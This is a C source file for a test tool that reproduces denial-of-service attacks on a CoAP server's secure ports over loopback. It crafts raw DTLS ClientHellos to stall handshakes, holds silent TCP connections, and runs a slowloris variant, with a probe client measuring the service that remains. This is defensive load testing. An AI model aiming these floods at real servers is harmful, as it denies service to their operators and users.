/*
 * coap-attack: the availability attacks of issue 34 against a CoAP server's secure ports, and the real client that
 * measures what is left for it. Each attack holds what the tester held, from one source address or from many
 * (spread over 127.0.0.0/8: the kernel routes every address of it to loopback), and replaces what the server takes back,
 * so it keeps up the pressure for as long as it runs.
 *
 *   coap-attack dtls-stall  -p port [-n slots] [-s sources] [-r refresh_s] [-d seconds]
 *   coap-attack tcp-silent  -p port [-n connections] [-s sources] [-d seconds]
 *   coap-attack slowloris   -p port [-n connections] [-s sources] [-d seconds] [-T]
 *   coap-attack probe       -p port -m dtls|tls|tcp [-P tries] [-I interval_ms] [-t timeout_ms] [-i identity] [-k key] [-u /path]
 *
 *   dtls-stall  n sockets each complete the cookie exchange (RFC 6347 section 4.2.1: ClientHello, HelloVerifyRequest,
 *               ClientHello with the cookie) and then say nothing; every r seconds (default 25) a socket starts over
 *               from a new port, so n handshakes stay fresh; r 0 never starts over. Counts datagrams sent.
 *   tcp-silent  n TCP connections that send nothing (on a coaps+tcp port: no ClientHello; on coap+tcp: no CSM), each
 *               opened again as soon as the server closes it (the "500 reopened silent connections").
 *   slowloris   n connections that complete TLS (-T; ALPN "coap") or just connect, send a CSM (RFC 8323 section 5.3)
 *               and the first two bytes of a request, then nothing; each opened again when the server closes it.
 *   probe       a real client, once every interval: a fresh DTLS 1.2 PSK handshake (OpenSSL, TLS_PSK_WITH_AES_128_CCM_8),
 *               TLS handshake or TCP connection, then GET /hello (after a CSM over TCP and TLS); a try succeeds when the
 *               2.05 arrives within the timeout. DTLS retransmits on OpenSSL's timer, and the CON request every 2 s.
 *
 *   -s sources  1 (default): every attacking socket on 127.0.0.2; N: N addresses spread over 127.0.0.0/8 (never
 *               127.0.0.1, where the probe runs)
 *
 * Output: one line of key=value pairs when the run ends (an attack runs until -d passes or SIGTERM/SIGINT):
 *   attack=... n=... sources=... seconds=... sent=... sent_per_s=... connects=... connects_per_s=... closed_by_server=...
 *   probe=... tries=... ok=... failed=... p50_ms=... p95_ms=... max_ms=...   (and a line per try: try=... ok=... ms=...)
 *
 * Build: cc -O2 -o coap-attack coap-attack.c -lssl -lcrypto   (Linux: epoll; Debian: libssl-dev)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

#include "load-common.h"

#define MAX_N 20000

static int port = 0, n = 1, sources = 1, seconds = 30, tls = 0;
static double refresh_s = 25;
static volatile sig_atomic_t stopping = 0;
static uint64_t sent, connects, closed_by_server, answers;

static void on_signal(int sig) {
  (void)sig;
  stopping = 1;
}

static void die(const char *what) {
  fprintf(stderr, "coap-attack: %s: %s\n", what, strerror(errno));
  exit(2);
}

/* The i-th attacking source (0-based): 127.0.0.2 alone, or addresses spread over 127.0.0.0/8 (never .0, .255 or 127.0.0.1). */
static struct sockaddr_in source(int i) {
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  uint32_t host = 2;
  if (sources > 1) {
    uint32_t step = 0xFEFFFFu / (uint32_t)sources;
    host = 0x010002u + (uint32_t)(i % sources) * (step ? step : 1);
    if ((host & 0xFF) == 0 || (host & 0xFF) == 0xFF) host += 2;
  }
  a.sin_addr.s_addr = htonl(0x7F000000u | (host & 0xFFFFFFu));
  return a;
}

static struct sockaddr_in target(void) {
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons((uint16_t)port);
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return a;
}

static int bound_socket(int type, int i) {
  int fd = socket(AF_INET, type | SOCK_NONBLOCK, 0);
  if (fd < 0) die("socket");
  struct sockaddr_in from = source(i);
  if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0) die("bind to the source address");
  return fd;
}

/* ---- dtls-stall ---------------------------------------------------------------------------------------------- */

/* A DTLS 1.2 ClientHello offering TLS_PSK_WITH_AES_128_CCM_8 (and the renegotiation SCSV), with cookie if given. */
static size_t client_hello(uint8_t *out, const uint8_t *random, const uint8_t *cookie, size_t cookie_len, uint16_t message_seq, uint64_t record_seq) {
  uint8_t body[128];
  size_t b = 0;
  body[b++] = 0xFE, body[b++] = 0xFD;
  memcpy(body + b, random, 32), b += 32;
  body[b++] = 0; /* session_id */
  body[b++] = (uint8_t)cookie_len;
  memcpy(body + b, cookie, cookie_len), b += cookie_len;
  body[b++] = 0, body[b++] = 4, body[b++] = 0xC0, body[b++] = 0xA8, body[b++] = 0x00, body[b++] = 0xFF;
  body[b++] = 1, body[b++] = 0; /* compression: null */
  size_t r = 0;
  out[r++] = 22, out[r++] = 0xFE, out[r++] = 0xFD, out[r++] = 0, out[r++] = 0;
  for (int k = 5; k >= 0; k--) out[r++] = (uint8_t)(record_seq >> (8 * k));
  size_t hs = 12 + b;
  out[r++] = (uint8_t)(hs >> 8), out[r++] = (uint8_t)hs;
  out[r++] = 1, out[r++] = 0, out[r++] = (uint8_t)(b >> 8), out[r++] = (uint8_t)b;
  out[r++] = (uint8_t)(message_seq >> 8), out[r++] = (uint8_t)message_seq;
  out[r++] = 0, out[r++] = 0, out[r++] = 0;
  out[r++] = 0, out[r++] = (uint8_t)(b >> 8), out[r++] = (uint8_t)b;
  memcpy(out + r, body, b);
  return r + b;
}

typedef struct {
  int fd;
  int state; /* 0: start over; 1: waiting for the HelloVerifyRequest; 2: stalled */
  uint64_t at;
  uint8_t random[32];
} slot_t;

static void send_datagram(int fd, const uint8_t *d, size_t len, const struct sockaddr_in *to) {
  if (sendto(fd, d, len, 0, (const struct sockaddr *)to, sizeof *to) == (ssize_t)len) sent++;
}

static int dtls_stall(void) {
  static slot_t slots[MAX_N];
  struct sockaddr_in to = target();
  int ep = epoll_create1(0);
  uint8_t buf[2048], hello[256];
  uint64_t start = now_us(), end = start + (uint64_t)seconds * 1000000u;
  for (int i = 0; i < n; i++) slots[i].fd = -1, slots[i].state = 0;
  while (!stopping && now_us() < end) {
    uint64_t now = now_us();
    for (int i = 0; i < n; i++) {
      slot_t *s = &slots[i];
      if (s->state == 2 && refresh_s > 0 && now >= s->at) {
        epoll_ctl(ep, EPOLL_CTL_DEL, s->fd, NULL);
        close(s->fd);
        s->fd = -1;
        s->state = 0;
      }
      if (s->state == 0 || (s->state == 1 && now >= s->at)) {
        if (s->fd < 0) {
          s->fd = bound_socket(SOCK_DGRAM, i);
          struct epoll_event e = {.events = EPOLLIN, .data.u32 = (uint32_t)i};
          epoll_ctl(ep, EPOLL_CTL_ADD, s->fd, &e);
          for (int k = 0; k < 32; k++) s->random[k] = (uint8_t)rand();
          connects++;
        }
        send_datagram(s->fd, hello, client_hello(hello, s->random, NULL, 0, 0, 0), &to);
        s->state = 1;
        s->at = now + 1000000u; /* RFC 6347 section 4.2.4.1: 1 s, then the ClientHello again */
      }
    }
    struct epoll_event events[256];
    int ready = epoll_wait(ep, events, 256, 5);
    for (int e = 0; e < ready; e++) {
      slot_t *s = &slots[events[e].data.u32];
      ssize_t got;
      while ((got = recv(s->fd, buf, sizeof buf, 0)) > 0) {
        answers++;
        /* A HelloVerifyRequest: handshake record, epoch 0, message hello_verify_request (3); its cookie after the version. */
        if (s->state == 1 && got > 27 && buf[0] == 22 && buf[13] == 3 && got >= 28 + buf[27]) {
          send_datagram(s->fd, hello, client_hello(hello, s->random, buf + 28, buf[27], 1, 1), &to);
          s->state = 2;
          s->at = now_us() + (uint64_t)(refresh_s * 1e6);
        }
      }
    }
  }
  double took = (double)(now_us() - start) / 1e6;
  printf("attack=dtls-stall n=%d sources=%d refresh_s=%g seconds=%.1f sent=%llu sent_per_s=%.1f connects=%llu answers=%llu\n", n, sources, refresh_s, took,
         (unsigned long long)sent, sent / took, (unsigned long long)connects, (unsigned long long)answers);
  return 0;
}

/* ---- tcp-silent and slowloris ------------------------------------------------------------------------------- */

typedef struct {
  int fd;
  SSL *ssl;
  int state; /* 0: closed; 1: connecting; 2: TLS handshake; 3: holding */
} conn_t;

static SSL_CTX *tls_ctx;

/* A CSM (RFC 8323 section 5.3: Len 0, TKL 0, code 7.01) and the first two bytes of a GET that never completes. */
static const uint8_t csm_and_two[] = {0x00, 0xE1, 0x51, 0x01};

static void open_conn(int ep, conn_t *c, int i, struct sockaddr_in *to) {
  c->fd = bound_socket(SOCK_STREAM, i);
  c->ssl = NULL;
  int one = 1;
  setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  if (connect(c->fd, (struct sockaddr *)to, sizeof *to) < 0 && errno != EINPROGRESS) {
    close(c->fd);
    c->fd = -1;
    c->state = 0;
    return;
  }
  connects++;
  c->state = 1;
  struct epoll_event e = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP, .data.u32 = (uint32_t)i};
  epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &e);
}

static void close_conn(int ep, conn_t *c) {
  epoll_ctl(ep, EPOLL_CTL_DEL, c->fd, NULL);
  if (c->ssl) SSL_free(c->ssl);
  close(c->fd);
  c->fd = -1;
  c->ssl = NULL;
  c->state = 0;
}

static void hold(int ep, conn_t *c, int i) {
  struct epoll_event e = {.events = EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i};
  epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &e);
  c->state = 3;
}

/* Drives one connection on an event; returns 0 once the server has closed it. */
static int step(int ep, conn_t *c, int i, int slowloris, uint32_t events) {
  uint8_t buf[4096];
  if (c->state == 1) {
    int err = 0;
    socklen_t len = sizeof err;
    getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &len);
    if (err != 0) return 0;
    if (!(events & EPOLLOUT)) return 1;
    if (!slowloris) {
      hold(ep, c, i);
      return 1;
    }
    if (!tls) {
      if (write(c->fd, csm_and_two, sizeof csm_and_two) != sizeof csm_and_two) return 0;
      hold(ep, c, i);
      return 1;
    }
    c->ssl = SSL_new(tls_ctx);
    SSL_set_fd(c->ssl, c->fd);
    SSL_set_connect_state(c->ssl);
    c->state = 2;
  }
  if (c->state == 2) {
    int r = SSL_do_handshake(c->ssl);
    if (r == 1) {
      if (SSL_write(c->ssl, csm_and_two, sizeof csm_and_two) <= 0) return 0;
      hold(ep, c, i);
      return 1;
    }
    int e = SSL_get_error(c->ssl, r);
    if (e == SSL_ERROR_WANT_READ) {
      struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i};
      epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &ev);
      return 1;
    }
    if (e == SSL_ERROR_WANT_WRITE) return 1;
    ERR_clear_error();
    return 0;
  }
  /* Holding: read (and drop) whatever the server sends, until it closes. */
  if (events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP | EPOLLERR)) {
    for (;;) {
      int got = c->ssl ? SSL_read(c->ssl, buf, sizeof buf) : (int)read(c->fd, buf, sizeof buf);
      if (got > 0) continue;
      if (c->ssl) {
        int e = SSL_get_error(c->ssl, got);
        if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) return 1;
        ERR_clear_error();
        return 0;
      }
      if (got < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return 1;
      return 0;
    }
  }
  return 1;
}

static int connections(int slowloris) {
  static conn_t conns[MAX_N];
  struct sockaddr_in to = target();
  int ep = epoll_create1(0);
  uint64_t start = now_us(), end = start + (uint64_t)seconds * 1000000u;
  for (int i = 0; i < n; i++) conns[i].fd = -1, conns[i].state = 0;
  while (!stopping && now_us() < end) {
    for (int i = 0; i < n; i++) {
      if (conns[i].state == 0) open_conn(ep, &conns[i], i, &to);
    }
    struct epoll_event events[512];
    int ready = epoll_wait(ep, events, 512, 5);
    for (int e = 0; e < ready; e++) {
      int i = (int)events[e].data.u32;
      conn_t *c = &conns[i];
      if (c->fd < 0) continue;
      if (!step(ep, c, i, slowloris, events[e].events)) {
        if (c->state >= 2) closed_by_server++;
        close_conn(ep, c);
      }
    }
  }
  double took = (double)(now_us() - start) / 1e6;
  printf("attack=%s n=%d sources=%d seconds=%.1f connects=%llu connects_per_s=%.1f closed_by_server=%llu\n", slowloris ? (tls ? "tls-slowloris" : "tcp-slowloris") : "silent", n,
         sources, took, (unsigned long long)connects, connects / took, (unsigned long long)closed_by_server);
  return 0;
}

/* ---- probe: the real client ---------------------------------------------------------------------------------- */

static const char *identity = "coapnet", *key = "sample-secret", *path = "/hello";
static int timeout_ms = 10000;

static unsigned psk_client(SSL *ssl, const char *hint, char *id, unsigned max_id, unsigned char *psk, unsigned max_psk) {
  (void)ssl, (void)hint;
  size_t key_len = strlen(key);
  if (strlen(identity) + 1 > max_id || key_len > max_psk) return 0;
  strcpy(id, identity);
  memcpy(psk, key, key_len);
  return (unsigned)key_len;
}

/* A GET of path with token 0x42: a UDP message (CON, Message ID mid; RFC 7252 section 3) or an RFC 8323 frame. */
static size_t get_request(uint8_t *out, int stream, uint16_t mid) {
  uint8_t options[256];
  size_t o = path_options(options, path);
  size_t r = 0;
  if (stream) {
    /* Len counts the options (and payload), not the token (RFC 8323 section 3.2). */
    if (o < 13) {
      out[r++] = (uint8_t)(o << 4 | 1);
    } else {
      out[r++] = (uint8_t)(13 << 4 | 1);
      out[r++] = (uint8_t)(o - 13);
    }
    out[r++] = 0x01;
  } else {
    out[r++] = 0x41, out[r++] = 0x01, out[r++] = (uint8_t)(mid >> 8), out[r++] = (uint8_t)mid;
  }
  out[r++] = 0x42;
  memcpy(out + r, options, o);
  return r + o;
}

static int wait_fd(int fd, short events, uint64_t deadline) {
  uint64_t now = now_us();
  if (now >= deadline) return 0;
  struct pollfd p = {.fd = fd, .events = events};
  int ms = (int)((deadline - now) / 1000u);
  return poll(&p, 1, ms < 1 ? 1 : ms) > 0;
}

/* Reads RFC 8323 frames until a 2.xx response with token 0x42 arrives: 1, or 0 on a close, an error or the deadline. */
static int read_response_frame(int fd, SSL *ssl, uint64_t deadline) {
  uint8_t buf[16384];
  size_t have = 0;
  for (;;) {
    /* Parse whole frames from the front. */
    for (;;) {
      if (have < 2) break;
      size_t len = buf[0] >> 4, tkl = buf[0] & 15, h = 1;
      if (len == 13) { if (have < 2) break; len = buf[1] + 13u; h = 2; }
      else if (len == 14) { if (have < 3) break; len = ((size_t)buf[1] << 8 | buf[2]) + 269u; h = 3; }
      else if (len == 15) return 0;
      size_t total = h + 1 + tkl + len;
      if (have < total) break;
      uint8_t code = buf[h];
      if (tkl == 1 && buf[h + 1] == 0x42 && code >= 0x40 && code < 0x60) return 1;
      memmove(buf, buf + total, have - total);
      have -= total;
    }
    if (!wait_fd(fd, POLLIN, deadline) && !(ssl && SSL_pending(ssl))) return 0;
    int got = ssl ? SSL_read(ssl, buf + have, (int)(sizeof buf - have)) : (int)read(fd, buf + have, sizeof buf - have);
    if (got > 0) {
      have += (size_t)got;
      continue;
    }
    if (ssl) {
      int e = SSL_get_error(ssl, got);
      if (e == SSL_ERROR_WANT_READ || e == SSL_ERROR_WANT_WRITE) continue;
    } else if (got < 0 && (errno == EAGAIN || errno == EINTR)) {
      continue;
    }
    return 0;
  }
}

static int try_stream(int use_tls, uint64_t deadline) {
  struct sockaddr_in to = target();
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  int ok = 0;
  SSL *ssl = NULL;
  if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) goto done;
  if (!wait_fd(fd, POLLOUT, deadline)) goto done;
  int err = 0;
  socklen_t len = sizeof err;
  getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
  if (err) goto done;
  uint8_t out[512];
  size_t r = 0;
  out[r++] = 0x00, out[r++] = 0xE1; /* CSM */
  r += get_request(out + r, 1, 0);
  if (use_tls) {
    ssl = SSL_new(tls_ctx);
    SSL_set_fd(ssl, fd);
    SSL_set_connect_state(ssl);
    for (;;) {
      int h = SSL_do_handshake(ssl);
      if (h == 1) break;
      int e = SSL_get_error(ssl, h);
      if (e == SSL_ERROR_WANT_READ ? !wait_fd(fd, POLLIN, deadline) : e == SSL_ERROR_WANT_WRITE ? !wait_fd(fd, POLLOUT, deadline) : 1) goto done;
    }
    if (SSL_write(ssl, out, (int)r) != (int)r) goto done;
  } else if (write(fd, out, r) != (ssize_t)r) {
    goto done;
  }
  ok = read_response_frame(fd, ssl, deadline);
done:
  ERR_clear_error();
  if (ssl) SSL_free(ssl);
  close(fd);
  return ok;
}

static int try_dtls(uint64_t deadline) {
  static SSL_CTX *ctx;
  if (!ctx) {
    ctx = SSL_CTX_new(DTLS_client_method());
    SSL_CTX_set_cipher_list(ctx, "PSK-AES128-CCM8");
    SSL_CTX_set_psk_client_callback(ctx, psk_client);
  }
  struct sockaddr_in to = target();
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0), ok = 0;
  struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  bind(fd, (struct sockaddr *)&from, sizeof from);
  connect(fd, (struct sockaddr *)&to, sizeof to);
  BIO *bio = BIO_new_dgram(fd, BIO_NOCLOSE);
  BIO_ctrl(bio, BIO_CTRL_DGRAM_SET_CONNECTED, 0, &to);
  SSL *ssl = SSL_new(ctx);
  SSL_set_bio(ssl, bio, bio);
  SSL_set_connect_state(ssl);
  for (;;) {
    int h = SSL_do_handshake(ssl);
    if (h == 1) break;
    int e = SSL_get_error(ssl, h);
    if (e != SSL_ERROR_WANT_READ && e != SSL_ERROR_WANT_WRITE) goto done;
    struct timeval tv;
    uint64_t wait_until = deadline;
    if (DTLSv1_get_timeout(ssl, &tv)) {
      uint64_t t = now_us() + (uint64_t)tv.tv_sec * 1000000u + (uint64_t)tv.tv_usec;
      if (t < wait_until) wait_until = t;
    }
    if (!wait_fd(fd, POLLIN, wait_until)) {
      if (now_us() >= deadline) goto done;
      DTLSv1_handle_timeout(ssl);
    }
  }
  uint8_t request[300], buf[2048];
  uint16_t mid = (uint16_t)rand();
  size_t len = get_request(request, 0, mid);
  while (now_us() < deadline) {
    if (SSL_write(ssl, request, (int)len) <= 0) goto done;
    uint64_t retry = now_us() + 2000000u; /* ACK_TIMEOUT (RFC 7252 section 4.8) */
    while (wait_fd(fd, POLLIN, retry < deadline ? retry : deadline)) {
      int got = SSL_read(ssl, buf, sizeof buf);
      if (got > 4 && buf[1] >= 0x40 && buf[1] < 0x60 && (buf[0] & 15) == 1 && buf[4] == 0x42) {
        ok = 1;
        goto done;
      }
      if (got <= 0) {
        int e = SSL_get_error(ssl, got);
        if (e != SSL_ERROR_WANT_READ) goto done;
      }
    }
  }
done:
  ERR_clear_error();
  SSL_free(ssl);
  close(fd);
  return ok;
}

static int compare(const void *a, const void *b) {
  uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
  return x < y ? -1 : x > y;
}

static int probe(const char *mode, int tries, int interval_ms) {
  static uint64_t took[10000];
  int ok_count = 0, failed = 0;
  for (int t = 0; t < tries && !stopping; t++) {
    uint64_t start = now_us(), deadline = start + (uint64_t)timeout_ms * 1000u;
    int ok = strcmp(mode, "dtls") == 0 ? try_dtls(deadline) : try_stream(strcmp(mode, "tls") == 0, deadline);
    uint64_t ms = (now_us() - start) / 1000u;
    printf("try=%d ok=%d ms=%llu\n", t + 1, ok, (unsigned long long)ms);
    fflush(stdout);
    if (ok) took[ok_count++] = ms;
    else failed++;
    uint64_t next = start + (uint64_t)interval_ms * 1000u;
    while (!stopping && now_us() < next) usleep(10000);
  }
  qsort(took, (size_t)ok_count, sizeof took[0], compare);
  printf("probe=%s tries=%d ok=%d failed=%d p50_ms=%llu p95_ms=%llu max_ms=%llu\n", mode, ok_count + failed, ok_count, failed,
         (unsigned long long)(ok_count ? took[(ok_count - 1) / 2] : 0), (unsigned long long)(ok_count ? took[(ok_count * 95 - 1) / 100] : 0),
         (unsigned long long)(ok_count ? took[ok_count - 1] : 0));
  return failed > 0;
}

int main(int argc, char **argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: coap-attack dtls-stall|tcp-silent|slowloris|probe -p port [options] (see the comment at the top)\n");
    return 2;
  }
  const char *command = argv[1], *mode = "dtls";
  int tries = 10, interval_ms = 1000, opt;
  optind = 2;
  while ((opt = getopt(argc, argv, "p:n:s:r:d:Tm:P:I:t:i:k:u:")) != -1) {
    switch (opt) {
      case 'p': port = atoi(optarg); break;
      case 'n': n = atoi(optarg); break;
      case 's': sources = atoi(optarg); break;
      case 'r': refresh_s = atof(optarg); break;
      case 'd': seconds = atoi(optarg); break;
      case 'T': tls = 1; break;
      case 'm': mode = optarg; break;
      case 'P': tries = atoi(optarg); break;
      case 'I': interval_ms = atoi(optarg); break;
      case 't': timeout_ms = atoi(optarg); break;
      case 'i': identity = optarg; break;
      case 'k': key = optarg; break;
      case 'u': path = optarg; break;
      default: return 2;
    }
  }
  if (port <= 0 || n < 1 || n > MAX_N || sources < 1 || tries < 1 || tries > 10000) {
    fprintf(stderr, "coap-attack: -p is required; -n 1..%d, -s and -P at least 1\n", MAX_N);
    return 2;
  }
  signal(SIGTERM, on_signal);
  signal(SIGINT, on_signal);
  signal(SIGPIPE, SIG_IGN);
  srand((unsigned)now_us());
  raise_open_files((rlim_t)n + 64);
  tls_ctx = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_verify(tls_ctx, SSL_VERIFY_NONE, NULL);
  static const unsigned char alpn[] = {4, 'c', 'o', 'a', 'p'};
  SSL_CTX_set_alpn_protos(tls_ctx, alpn, sizeof alpn);
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(command, "dtls-stall") == 0) return dtls_stall();
  if (strcmp(command, "tcp-silent") == 0) return connections(0);
  if (strcmp(command, "slowloris") == 0) return connections(1);
  if (strcmp(command, "probe") == 0) return probe(mode, tries, interval_ms);
  fprintf(stderr, "coap-attack: unknown command '%s'\n", command);
  return 2;
}
